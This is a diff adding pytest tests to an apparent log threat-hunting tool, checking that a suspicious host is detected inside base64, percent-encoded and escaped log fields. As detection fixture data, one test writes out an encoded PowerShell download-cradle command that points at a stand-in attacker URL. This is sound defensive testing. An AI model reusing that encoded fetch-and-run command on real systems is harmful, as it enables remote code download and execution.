@@ -2,7 +2,9 @@ from __future__ import annotations
 
 import json
 import uuid
+from base64 import b64encode
 from collections import Counter
+from urllib.parse import quote
 
 import pytest
 
@@ -183,3 +185,43 @@ def test_one_thread_finds_what_many_find(tmp_path):
     assert len(one) == sum(n % 250 == 7 for n in range(200_000)) + sum(
         n % 977 in {13, 500} for n in range(200_000)
     )
+
+
+def test_what_is_encoded_is_looked_into_if_asked(tmp_path):
+    url = "http://evil.example/x"
+    command = b64encode(f"DownloadString('{url}')".encode("utf-16-le")).decode()
+    log = _write(
+        tmp_path, "plain words of no interest", f"cmd=powershell -enc {command}", quote(url, safe="")
+    )
+    assert _hunt(_catalogue("evil.example"), log)[0] == []
+    hits, report = _hunt(_catalogue("evil.example"), log, decode=True)
+    assert [(hit.line, hit.offset, hit.field, hit.value) for hit in hits] == [
+        (2, 27, "line|base64", "evil.example"),
+        (3, 28 + len(f"cmd=powershell -enc {command}"), "line|percent", "evil.example"),
+    ]
+    assert (report.hits, report.lines) == (2, 3)
+
+
+def test_what_is_encoded_in_records_with_escapes_is_found_once(tmp_path):
+    record = {
+        "src": "192.0.2.9",
+        "payload": b64encode(b"GET / HTTP/1.1\r\nHost: evil.example\r\n?????").decode(),
+    }
+    log = tmp_path / "eve.json"
+    log.write_text(
+        json.dumps(record).replace("/", "\\/") + "\n" + json.dumps(record | {"host": "evil.example"}) + "\n"
+    )
+    hits, _ = _hunt(_catalogue("evil.example"), log, decode=True)
+    assert [(hit.line, hit.field) for hit in hits] == [(1, "payload|base64"), (2, "host")]
+
+
+def test_a_record_of_a_time_to_come_is_taken_as_one_without_a_time(tmp_path):
+    log = _write(tmp_path, "2099-01-01T00:00:00Z evil.example", "2026-11-21T12:00:00Z evil.example")
+    valid = {"valid_from": EVENT, "valid_until": NOW + 1}
+    (far, near), report = _hunt(_catalogue(("evil.example", valid)), log)
+    assert (far.at, far.raised) == (
+        None,
+        True,
+    )  # else a wrong clock would end the indicator, and date a sighting
+    assert (near.at, near.flags) == (1_795_262_400_000_000, ("after-valid",))
+    assert report.counts[0].last is None
